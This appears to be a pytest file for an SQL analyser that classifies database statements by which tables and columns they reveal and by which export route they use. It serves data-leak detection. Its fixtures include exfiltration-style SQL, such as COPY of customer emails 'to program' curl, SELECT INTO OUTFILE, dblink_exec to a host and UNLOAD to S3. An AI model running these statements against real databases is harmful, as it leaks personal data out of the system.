"""What statements are and reveal: a table, one row per idea."""

from __future__ import annotations

import pytest

from streamguard.sources.statement import Analyser

C = "customers"
MAIL = "customers.email"
ALL = "customers.*"


@pytest.fixture(scope="module")
def analyser():
    return Analyser()


# statement, verb, export, tables, columns; the columns are complete.
KNOWN = [
    # formats.md 1.2: what pgaudit was measured with
    ("select id, email from customers limit 100", "SELECT", None, (C,), (MAIL, "customers.id")),
    ("select * from customers", "SELECT", None, (C,), (ALL,)),
    (
        "select c.email, o.total from customers c join orders o on o.customer_id = c.id",
        "SELECT", None, (C, "orders"), (MAIL, "orders.total"),
    ),
    ("select * from v_contact", "SELECT", None, ("v_contact",), ("v_contact.*",)),
    ("copy (select email from customers) to stdout", "COPY", "copy_to", (C,), (MAIL,)),
    ("copy customers to stdout", "COPY", "copy_to", (C,), (ALL,)),
    ("COPY public.customers (id, email) TO stdout;", "COPY", "copy_to", ("public.customers",),
     ("public.customers.email", "public.customers.id")),
    ("declare cur cursor for select email from customers", "DECLARE CURSOR", "cursor", (C,), (MAIL,)),
    ("prepare p as select email from customers where id = $1", "PREPARE", None, (C,), (MAIL,)),
    ("create table leak as select * from customers", "CREATE TABLE AS", "create_table_as", (C, "leak"), (ALL,)),
    ("create temp table t as (select email from customers) with no data", "CREATE TABLE AS", "create_table_as",
     (C, "t"), (MAIL,)),
    ("create materialized view mv as select email from customers", "CREATE MATERIALIZED VIEW", "create_table_as",
     (C,), (MAIL,)),
    ("insert into leak select email from customers limit 7", "INSERT", None, (C, "leak"), (MAIL,)),
    ("update customers set name = 'x' where id < 9 returning email", "UPDATE", None, (C,), (MAIL,)),
    ("delete from customers where id > 4", "DELETE", None, (C,), ()),
    ("select count(*), count(email) from customers", "SELECT", None, (C,), ()),
    ("select string_agg(email, ',') from customers", "SELECT", "aggregate_into_one_row", (C,), (MAIL,)),
    ("select json_agg(c) from customers c", "SELECT", "aggregate_into_one_row", (C,), (ALL,)),
    ("explain analyze select * from customers", "EXPLAIN", None, (C,), ()),
    # other ways out
    ("select email into leak from customers", "SELECT INTO", "create_table_as", (C, "leak"), (MAIL,)),
    ("copy (select email from customers) to program 'curl -T - x'", "COPY", "copy_to", (C,), (MAIL,)),
    ("select array_to_string(array(select email from customers), ',')", "SELECT", "aggregate_into_one_row",
     (C,), (MAIL,)),
    ("select email into outfile '/tmp/x' from customers", "SELECT", "outfile", (C,), (MAIL,)),
    ("table customers", "SELECT", None, (C,), (ALL,)),
    ("select country, string_agg(email, ',') from customers group by country", "SELECT", "aggregate_into_one_row", (C,),
     ("customers.country", MAIL)),
    ("with gone as (delete from customers returning *) select email from gone", "SELECT", None, (C,), (MAIL,)),
    ("merge into t using customers s on t.id = s.id when matched then update set x = s.email", "MERGE", None,
     (C, "t"), (MAIL,)),
    # no way out
    ("copy customers from stdin", "COPY", None, (C,), ()),
    ("insert into customers (email) values ('a'), ('b')", "INSERT", None, (C,), ()),
    ("truncate customers", "TRUNCATE", None, (C,), ()),
    ("set search_path = x", "SET", None, (), ()),
    ("close cur", "CLOSE", None, (), ()),
    # predicates reveal nothing, functions over a column do
    ("select id from orders where customer_id in (select id from customers where email = 'x')", "SELECT", None,
     (C, "orders"), ("orders.id",)),
    ("select o.id from orders o where exists (select email from customers)", "SELECT", None, (C, "orders"),
     ("orders.id",)),
    ("select case when phone is null then name else 'x' end from customers order by birth_date", "SELECT", None,
     (C,), ("customers.name",)),
    ("select lower(left(email, 3)) || '!' from customers", "SELECT", None, (C,), (MAIL,)),
    ("select max(email) over (partition by phone order by name) from customers", "SELECT", None, (C,), (MAIL,)),
    ("select row_number() over (order by email) from customers", "SELECT", None, (C,), ()),
    ("select percentile_disc(0.5) within group (order by birth_date) from customers", "SELECT", None, (C,),
     ("customers.birth_date",)),
    ("select data ? 'key', data->>'email' from tickets", "SELECT", None, ("tickets",), ("tickets.data",)),
    # through names
    ("select x.mail from (select email as mail, phone from customers) x", "SELECT", None, (C,), (MAIL,)),
    ("select email from (select * from customers) x", "SELECT", None, (C,), (MAIL,)),
    ("with x as (select email, id from customers), y as (select id from orders) select email from x join y using (id)",
     "SELECT", None, (C, "orders"), (MAIL,)),
    ("with customers as (select * from customers) select email from customers", "SELECT", None, (C,), (MAIL,)),
    ("with x(a, b) as (select phone, email from customers) select b from x", "SELECT", None, (C,), (MAIL,)),
    ("select b from customers as c(a, b)", "SELECT", None, (C,), (ALL,)),
    ("with recursive t(n) as (select email from customers union all select n || 'x' from t) select n from t",
     "SELECT", None, (C,), (MAIL,)),
    ("select email from customers union select phone from customers", "SELECT", None, (C,),
     (MAIL, "customers.phone")),
    ("select c from customers c", "SELECT", None, (C,), (ALL,)),
    ("select a.id, b.email from orders a, lateral (select c.email from customers c where c.id = a.id) b", "SELECT",
     None, (C, "orders"), (MAIL, "orders.id")),
    ("select (select c.email from customers c limit 1), id from orders", "SELECT", None, (C, "orders"),
     (MAIL, "orders.id")),
    ('SELECT "Email" FROM "Public"."Customers"', "SELECT", None, ("public.customers",), ("public.customers.email",)),
    # where the table cannot be told, the column is told without it
    ("select email from customers, orders", "SELECT", None, (C, "orders"), ("email",)),
    ("select email from customers, (select 1) email", "SELECT", None, (C,), (MAIL,)),
    ("select archive.customers.email from public.customers, archive.customers", "SELECT", None,
     ("archive.customers", "public.customers"), ("email",)),
    # several statements in one text: the one that matters stands for all
    ("begin; select email from customers; commit", "SELECT", None, (C,), (MAIL,)),
    ("select id from orders; copy customers to stdout", "COPY", "copy_to", (C, "orders"), (ALL, "orders.id")),
]  # fmt: skip


@pytest.mark.parametrize(("sql", "verb", "export", "tables", "columns"), KNOWN, ids=[row[0][:60] for row in KNOWN])
def test_statement_is_understood(analyser, sql, verb, export, tables, columns):
    found = analyser.analyse(sql, "postgres")
    assert (found.verb, found.export, found.tables, found.columns) == (verb, export, tables, columns)
    assert found.columns_known
    assert found.parsed


# statement, verb, export, tables; nothing complete can be said of the columns.
UNKNOWN = [
    ("fetch 4000 from cur", "FETCH", "cursor", ()),
    ("execute p(10)", "EXECUTE", None, ()),
    ("call refresh_all()", "CALL", None, ()),
    ("do $$ begin perform 1; end $$", "DO", None, ()),
    ("select * from f()", "SELECT", None, ()),
    ("select my_function(1)", "SELECT", None, ()),
    ("select app.upper(email) from customers", "SELECT", None, (C,)),
    ("select * from app.lower('x')", "SELECT", None, ()),
    ("select query_to_xml('select * from customers', true, true, '')", "SELECT", "server_function", (C,)),
    ("select id from t where dblink_exec('host=x', 'insert') = 'ok'", "SELECT", "server_function", ("t",)),
    ("unload ('***') to 's3://bucket'", "UNLOAD", "unload", ()),
    ("unload ($1) to 's3://bucket'", "UNLOAD", "unload", ()),
    ("refresh materialized view mv", "REFRESH", None, ()),
    ("create table leak as execute p", "CREATE TABLE AS", "create_table_as", ("leak",)),
    ("select email from customers where (", "SELECT", None, (C,)),
    ('select email from customers, public.orders o join "tickets" t on where where', "SELECT", None,
     (C, "public.orders", "tickets")),
    ("something of its own", "UNKNOWN", None, ()),
    ("", "UNKNOWN", None, ()),
]  # fmt: skip


@pytest.mark.parametrize(("sql", "verb", "export", "tables"), UNKNOWN, ids=[row[0][:60] for row in UNKNOWN])
def test_what_cannot_be_told_is_not_told_as_nothing(analyser, sql, verb, export, tables):
    found = analyser.analyse(sql, "postgres")
    assert (found.verb, found.export, found.tables) == (verb, export, tables)
    assert not found.columns_known or not sql


def test_partly_known_columns_are_told_all_the_same(analyser):
    assert analyser.analyse("select email, my_function(1) from customers", "postgres").columns == (MAIL,)


def test_write_without_result_is_known_even_if_no_grammar_has_it(analyser):
    found = analyser.analyse("update customers set set name = 'x'", "postgres")
    assert not found.parsed
    assert found.columns_known
    assert found.columns == ()


def test_mysql_quotes_strings_with_double_quotes(analyser):
    found = analyser.analyse('select `email` from customers where name = "O\\"Neil secret"', "mysql")
    assert found.text == "select `email` from customers where name = ?"
    assert found.columns == (MAIL,)


def test_a_dialect_that_nobody_knows_is_no_error(analyser):
    found = analyser.analyse("select email from customers", "klingon")
    assert found.verb == "SELECT"
    assert found.tables == (C,)
